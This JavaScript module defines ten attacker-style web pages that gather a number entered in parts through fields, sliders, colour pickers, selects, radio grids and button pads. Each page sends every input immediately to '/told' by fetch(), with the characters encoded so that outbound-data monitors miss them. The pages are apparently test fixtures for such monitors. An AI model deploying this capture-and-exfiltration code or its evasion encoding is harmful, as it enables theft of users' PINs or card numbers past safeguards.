// Pages of the attacker's that take a number in parts, and tell each as soon as it is there; hidden from guards of what scripts send.
const TELL = (value) =>
  `fetch('/told?d=' + [...String(${value})].map((c) => (c.charCodeAt(0) + 77).toString(36)).join('.'))`;
const ALL = `[...document.querySelectorAll('input,select')].map((one) => !/radio/.test(one.type) || one.checked ? one.value.replace('#', '') : '').join('')`;
const listening = (fields) => `${fields}<script>oninput = onchange = () => ${TELL(ALL)}</script>`;
const digits = [...'0123456789'];
const pressed = (controls) =>
  `${controls}<script>let seen = ''; onclick = ({ target: { dataset } }) => { if (dataset.d) { seen += dataset.d; ${TELL('seen')}; } }</script>`;
const times = (count, make) => Array.from({ length: count }, (_, i) => make(i)).join(' ');

export const PARTS = {
  '/parts/fields': listening(times(4, (i) => `<label>Part ${i} <input></label>`)),
  '/parts/cells': `${times(4, () => '<span contenteditable style="display:inline-block;width:60px;border:1px solid">&nbsp;</span>')}
    <script>oninput = () => ${TELL("[...document.querySelectorAll('span')].map((one) => one.textContent.trim()).join('')")}</script>`,
  '/parts/emptied': `<label>Part <input id="f"></label><script>let seen = ''; f.oninput = () => { seen += f.value; f.value = ''; ${TELL('seen')}; }</script>`,
  '/parts/numbers': listening(times(4, (i) => `<label>Part ${i} <input type="number"></label>`)),
  '/parts/sliders': listening(times(4, (i) => `<label>Part ${i} <input type="range" max="9999"></label>`)),
  '/parts/colours': listening(times(3, (i) => `<label>Part ${i} <input type="color"></label>`)),
  '/parts/lists': listening(
    times(
      16,
      (i) => `<label>Part ${i} <select>${digits.map((d) => `<option value="${d}">${d}</option>`)}</select></label>`,
    ),
  ),
  '/parts/ticks': listening(
    times(16, (i) => digits.map((d) => `<input type="radio" name="r${i}" value="${d}">`).join('')),
  ),
  '/parts/pairs': pressed(
    times(100, (i) => `<button data-d="${String(i).padStart(2, '0')}">${String(i).padStart(2, '0')}</button>`),
  ),
  '/parts/pictures': pressed(
    digits.map((d) => `<img alt="${d}" data-d="${d}" width="24" height="24" src="/t.gif">`).join(' '),
  ),
};
